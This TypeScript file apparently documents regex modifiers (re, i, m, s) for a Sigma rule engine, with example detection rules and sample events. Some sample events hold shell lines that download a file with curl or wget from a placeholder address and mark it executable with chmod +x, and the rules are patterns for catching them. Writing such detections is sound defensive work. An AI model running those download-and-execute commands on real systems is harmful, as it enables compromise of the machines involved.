// Regular expressions.
import { fires, inModifiers, misses, refused } from './article.ts';
import type { ArticleText } from './article.ts';

const links = [inModifiers('regular-expression', 'regular expressions')];

export const regex: readonly ArticleText[] = [
  {
    id: 're',
    title: 're',
    group: 'regex',
    text: 'It is matched with case, and looks for a place in the field, not for the whole of it: `^` and `$` say where it must begin and end. Wildcards are not known in it. The specification allows `.`, `^` and `$`, `*`, `+`, `?` and `{n,m}`, classes, groups and `|`; what is beyond that runs here and is told under Problems.',
    examples: [
      {
        about: 'Found anywhere, with case',
        rule: `
selection:
  userAgent|re: 'Kali|Parrot'
condition: selection`,
        events: [
          fires('{"userAgent": "aws-cli/2.31 exec-env/x Kali-2026"}', 'in the middle'),
          misses('{"userAgent": "aws-cli/2.31 exec-env/x kali-2026"}', 'in lower case: see i'),
        ],
      },
      {
        about: 'An expression that cannot be read refuses the rule',
        rule: `
selection:
  userAgent|re: 'Kali('
condition: selection`,
        refused: 'regex_syntax',
        events: [refused('{"userAgent": "Kali("}', 'the group is not closed')],
      },
    ],
    differs: [
      {
        who: 'Go and Rust engines, DuckDB, ClickHouse',
        what: 'know no lookaround and no references back to a group.',
        here: 'What PCRE knows runs, and Problems says what is not portable.',
        pins: 'Values: a regular expression beyond the specification',
      },
      {
        who: 'sigma-go in bundles',
        what: 'never matches an expression from which no fixed text can be drawn, as `\\d+`.',
        here: 'Every expression is run.',
        pins: 'RE6',
      },
    ],
    links,
    see: ['i', 'm', 's', 'wildcards'],
    words: 'regular expression regex pcre',
  },
  {
    id: 'i',
    title: 'i',
    group: 'regex',
    text: 'Written behind `re`: `re|i`. The older way, `(?i)` in the expression, works as well and is deprecated. On other values it has no place: they disregard case already.',
    examples: [
      {
        about: 'In any case',
        rule: `
selection:
  userAgent|re|i: 'kali-\\d{4}'
condition: selection`,
        events: [
          fires('{"userAgent": "aws-cli/2.31 Kali-2026"}', 'a capital'),
          misses('{"userAgent": "aws-cli/2.31 Kali"}', 'no year'),
        ],
      },
    ],
    differs: [
      {
        who: 'sigma-go and chainsaw',
        what: 'do not know the modifier: a rule with it cannot be run there.',
        here: 'It is known, and `(?i)` too.',
        pins: 'RE4',
      },
    ],
    links,
    see: ['re', 'case', 'cased'],
    words: 'insensitive case flag',
  },
  {
    id: 'm',
    title: 'm',
    group: 'regex',
    text: 'Without it, `^` is the beginning of the whole field and `$` its end, or just before a last line break.',
    examples: [
      {
        about: 'A line of a script',
        rule: `
selection:
  requestParameters.script|re|m: '^curl '
condition: selection`,
        events: [
          fires(
            '{"requestParameters": {"script": "cd /tmp\\ncurl http://203.0.113.9/x"}}',
            'the second line',
          ),
          misses(
            '{"requestParameters": {"script": "cd /tmp; curl http://203.0.113.9/x"}}',
            'not at a beginning',
          ),
        ],
      },
    ],
    links,
    see: ['re', 's'],
    words: 'multiline lines anchor flag',
  },
  {
    id: 's',
    title: 's',
    group: 'regex',
    text: 'Without it, the dot stops at a line feed. A star as a wildcard, outside of regular expressions, never does.',
    examples: [
      {
        about: 'Across lines',
        rule: `
selection:
  requestParameters.script|re|s: 'wget.*chmod'
condition: selection`,
        events: [
          fires('{"requestParameters": {"script": "wget http://203.0.113.9/x\\nchmod +x x"}}', 'two lines'),
          misses(
            '{"requestParameters": {"script": "chmod +x x\\nwget http://203.0.113.9/x"}}',
            'in the other order',
          ),
        ],
      },
    ],
    differs: [
      {
        who: 'JavaScript',
        what: 'lets the dot stop at carriage returns and other line separators too.',
        here: 'As in PCRE, only at line feeds.',
        pins: 'RE1',
      },
    ],
    links,
    see: ['re', 'm', 'wildcards'],
    words: 'singleline dotall flag',
  },
];
